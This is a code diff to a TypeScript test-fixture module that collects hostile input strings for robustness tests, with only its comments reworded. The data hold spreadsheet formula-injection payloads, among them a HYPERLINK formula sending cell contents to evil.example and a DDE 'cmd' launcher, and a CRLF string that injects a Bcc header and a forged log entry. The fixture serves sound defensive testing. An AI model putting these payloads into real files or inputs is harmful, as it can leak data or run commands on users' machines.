@@ -2,12 +2,12 @@ import naughtyStrings from "big-list-of-naughty-strings/blns.json" with { type: 
 import { trials } from "../faults/faults.ts";
 import { xssVectors } from "./xss-vectors.ts";
 
-/** Begins a formula somewhere. */
+/** Texts that may begin a formula. */
 export const formulas = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"].map(
   (trigger) => `${trigger}HYPERLINK("https://evil.example/?"&A1,"x")`,
 );
 
-/** Begins a formula, or is a date, in a spreadsheet that separates by another sign than ours. */
+/** Texts that begin a formula or a date in a spreadsheet with a different separator from ours. */
 const separated = [
   ...[";", "\t", "|", "\n", "\r", "\r\n"].map((separator) => `x${separator}=1+cmd|' /C calc'!A0`),
   'x;"=WEBSERVICE(CHAR(104)&A2)";y',
@@ -18,7 +18,7 @@ const separated = [
   "May 5",
 ];
 
-/** Breaks lines, headers, paths, queries or the order of letters, or is no text at all. */
+/** Texts that break lines, headers, paths, queries or the order of letters, or are not valid text. */
 const breaking = [
   'x\r\nBcc: evil@example.com\r\n\r\n{"level":60,"msg":"forged"}',
   "x\u2028y\u2029z\u0085",
@@ -38,21 +38,23 @@ const breaking = [
 
 const ours = [...xssVectors, ...formulas, ...separated, ...breaking];
 
-/** All texts of which it is known that they have broken something, without the empty one. */
+/** All texts that are known to have broken something, except the empty one. */
 export const hostileStrings = [...new Set([...ours, ...naughtyStrings.filter((text) => text !== "")])];
 
-/** Of the long list of others every tenth, for what needs a call for each; all of them in the long form. */
+/**
+ * Our own texts and every tenth of the published list, for tests with a call for each; the long form takes all of them.
+ */
 export function someHostileStrings(): string[] {
   return hostileStrings.filter((_, place) => place < ours.length || place % trials(10, 1) === 0);
 }
 
-/** In pieces of at most so many. */
+/** Splits a list into pieces of at most `size` items. */
 export function inPieces<Item>(items: readonly Item[], size: number): Item[][] {
   const count = Math.ceil(items.length / size);
   return Array.from({ length: count }, (_, place) => items.slice(place * size, (place + 1) * size));
 }
 
-/** All of the texts, a blank between them, in as few pieces of at most so many characters as there can be. */
+/** Joins all texts with spaces into as few pieces of at most `maxLength` characters as possible. */
 export function packed(texts: readonly string[], maxLength: number): string[] {
   const whole = texts.join(" ");
   return Array.from({ length: Math.ceil(whole.length / maxLength) }, (_, place) =>
